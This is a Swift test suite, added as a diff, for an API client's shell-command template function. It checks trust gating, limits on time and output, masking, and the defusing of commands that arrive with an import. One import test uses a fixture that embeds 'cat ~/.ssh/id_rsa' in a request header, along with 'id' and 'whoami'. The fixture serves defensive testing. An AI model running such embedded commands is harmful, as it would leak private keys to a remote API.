@@ -1,0 +1,154 @@
+import Foundation
+import Testing
+@testable import Workspace
+@testable import Formats
+
+/// `{{command "…"}}`: a shell command's trimmed output (a secret manager's answer), run once
+/// per request, bounded in time and size, masked like a secret, and only from a collection
+/// the user opened by name or trusted.
+@Suite struct CommandFunctionTests {
+    /// A folder holding a collection file and a private state folder for the trust list.
+    private struct Sandbox {
+        let folder: URL
+        let collectionFile: URL
+        var environment: [String: String] { ["XDG_STATE_HOME": folder.appendingPathComponent("state").path, "PATH": "/usr/bin:/bin"] }
+
+        init(_ yaml: String) throws {
+            folder = FileManager.default.temporaryDirectory.appendingPathComponent("explorer-command-\(UUID().uuidString)")
+            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+            collectionFile = folder.appendingPathComponent("explorer.yaml")
+            try Data(yaml.utf8).write(to: collectionFile)
+        }
+
+        func load() throws -> APICollection { try CollectionLoader.load(from: collectionFile) }
+
+        func resolve(_ name: String, extra: [String: String] = [:], runsCommands: Bool = true) throws -> ResolvedRequest {
+            let collection = try load()
+            var resolver = RequestResolver(processEnvironment: environment.merging(extra) { $1 })
+            resolver.runsCommands = runsCommands
+            return try resolver.resolve(try collection.endpoint(named: name), in: collection)
+        }
+    }
+
+    private static let yaml = #"""
+        name: Commands
+        environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
+        endpoints:
+          - name: Token
+            path: /me
+            headers:
+              Authorization: "Bearer {{command \"echo '  tok-123'; echo run >> runs.txt\"}}"
+              X-Again: "{{command \"echo '  tok-123'; echo run >> runs.txt\"}}"
+          - name: Fails
+            path: "/x/{{command \"echo nope >&2; exit 3\"}}"
+          - name: Slow
+            path: "/x/{{command \"sleep 5; echo late\"}}"
+          - name: Loud
+            path: "/x/{{command \"head -c 2000000 /dev/zero\"}}"
+        """#
+
+    @Test func aTrustedCollectionRunsTheCommandOncePerRequestAndMasksItsOutput() throws {
+        let sandbox = try Sandbox(Self.yaml)
+        try CommandTrust(environment: sandbox.environment).trust(sandbox.collectionFile)
+        let resolved = try sandbox.resolve("Token")
+        #expect(resolved.request.headers["Authorization"] == "Bearer tok-123")
+        #expect(resolved.request.headers["X-Again"] == "tok-123")
+        let runs = try String(contentsOf: sandbox.folder.appendingPathComponent("runs.txt"), encoding: .utf8)
+        #expect(runs == "run\n", "run once, in the collection's folder")
+        #expect(resolved.maskedHeaders["Authorization"] == "Bearer \(SecretMasker.mask)")
+        #expect(resolved.maskedHeaders["X-Again"] == SecretMasker.mask)
+    }
+
+    @Test func aCollectionFoundButNotTrustedRunsNothingAndSaysHowToTrustIt() throws {
+        let sandbox = try Sandbox(Self.yaml)
+        #expect {
+            try sandbox.resolve("Token")
+        } throws: { error in
+            let text = String(describing: error)
+            return text.contains("was found, not named") && text.contains("explorer trust \(sandbox.collectionFile.path)") && text.hasPrefix("\(sandbox.collectionFile.path):")
+        }
+        #expect(!FileManager.default.fileExists(atPath: sandbox.folder.appendingPathComponent("runs.txt").path))
+        // Revoked trust stops it again.
+        let trust = CommandTrust(environment: sandbox.environment)
+        try trust.trust(sandbox.collectionFile)
+        #expect(try trust.revoke(sandbox.collectionFile))
+        #expect(throws: (any Error).self) { try sandbox.resolve("Token") }
+    }
+
+    @Test func theTrustListIsPrivate() throws {
+        let sandbox = try Sandbox(Self.yaml)
+        try CommandTrust(environment: sandbox.environment).trust(sandbox.collectionFile)
+        let list = sandbox.folder.appendingPathComponent("state/explorer/trusted-collections.json")
+        let mode = try FileManager.default.attributesOfItem(atPath: list.path)[.posixPermissions] as? Int
+        #expect(mode == 0o600)
+        #expect(try CommandTrust(environment: sandbox.environment).list().map(\.path) == [sandbox.collectionFile.resolvingSymlinksInPath().path])
+    }
+
+    @Test func aPreviewShowsTheCommandAsWrittenAndRunsNothing() throws {
+        let sandbox = try Sandbox(Self.yaml)
+        try CommandTrust(environment: sandbox.environment).trust(sandbox.collectionFile)
+        let resolved = try sandbox.resolve("Token", runsCommands: false)
+        #expect(resolved.request.headers["X-Again"]?.hasPrefix("{{command ") == true)
+        #expect(!FileManager.default.fileExists(atPath: sandbox.folder.appendingPathComponent("runs.txt").path))
+    }
+
+    @Test func aFailingCommandSaysItsStatusAndWhatItWroteToStandardError() throws {
+        let sandbox = try Sandbox(Self.yaml)
+        try CommandTrust(environment: sandbox.environment).trust(sandbox.collectionFile)
+        #expect {
+            try sandbox.resolve("Fails")
+        } throws: { error in
+            String(describing: error).contains("failed: it exited with status 3: nope")
+        }
+    }
+
+    @Test func aCommandIsBoundedInTimeAndOutput() throws {
+        let sandbox = try Sandbox(Self.yaml)
+        try CommandTrust(environment: sandbox.environment).trust(sandbox.collectionFile)
+        let started = Date()
+        #expect {
+            try sandbox.resolve("Slow", extra: ["EXPLORER_COMMAND_TIMEOUT": "0.3"])
+        } throws: { error in
+            String(describing: error).contains("did not finish within 0.3 s (EXPLORER_COMMAND_TIMEOUT raises the limit)")
+        }
+        #expect(Date().timeIntervalSince(started) < 4, "the command and its children were killed")
+        #expect {
+            try sandbox.resolve("Loud")
+        } throws: { error in
+            String(describing: error).contains("wrote more than \(TemplateCommand.maximumOutputBytes) bytes")
+        }
+    }
+
+    @Test func anImportNeverBringsACommandThatRuns() throws {
+        let curl = #"curl https://api.example.com/me -H 'X-Key: {{command "cat ~/.ssh/id_rsa"}}' -H 'X-Other: {{ command "id"}}'"#
+        let result = try CurlImporter().importCommand(curl, name: "Me").disablingCommands()
+        let endpoint = try #require(result.collection.endpoints.first)
+        #expect(endpoint.headers[named: "X-Key"] == #"{{command_from_import "cat ~/.ssh/id_rsa"}}"#)
+        #expect(endpoint.headers[named: "X-Other"] == #"{{ command_from_import "id"}}"#)
+        #expect(result.warnings.last?.hasPrefix(#"2 {{command "…"}} calls came with the import and were renamed to {{command_from_import "…"}}"#) == true,
+                "\(result.warnings)")
+        let plain = try CurlImporter().importCommand("curl https://api.example.com/me", name: "Me")
+        #expect(try plain.disablingCommands().warnings == plain.warnings)
+    }
+
+    /// What the YAML writes as `\t`, `\r` or `\n` is still a space to the template parser:
+    /// an import renames what that parser would run, in every text of the collection.
+    @Test func anImportRenamesEveryCallTheParserWouldRun() throws {
+        let endpoint = Endpoint(
+            name: "Me", method: .post, path: "/me",
+            headers: [KeyValue("X-Tab", "{{command\t\"id\"}}"), KeyValue("X-Line", "a {{\ncommand\r\"id\"}} b")],
+            body: .raw(#"{"x": "{{command "whoami"}}", "y": "{{commands}}", "z": "{{ command}}"}"#))
+        let collection = APICollection(name: "Shared", items: [.endpoint(endpoint)])
+        let result = try ImportResult(collection: collection).disablingCommands()
+        let imported = try #require(result.collection.endpoints.first)
+        #expect(imported.headers[named: "X-Tab"] == "{{command_from_import\t\"id\"}}")
+        #expect(imported.headers[named: "X-Line"] == "a {{\ncommand_from_import\r\"id\"}} b")
+        // `{{ command}}` alone is a call (with no command) to the parser: renamed too.
+        #expect(imported.body == .raw(#"{"x": "{{command_from_import "whoami"}}", "y": "{{commands}}", "z": "{{ command_from_import}}"}"#))
+        #expect(result.warnings.last?.contains(#"("id", "id", "whoami", "")"#) == true, "\(result.warnings)")
+        for text in [imported.headers[named: "X-Tab"], imported.headers[named: "X-Line"]] {
+            #expect(Template(text ?? "").segments.allSatisfy { if case .variable(let name) = $0 { TemplateFunction(name) == nil } else { true } })
+        }
+    }
+}
+
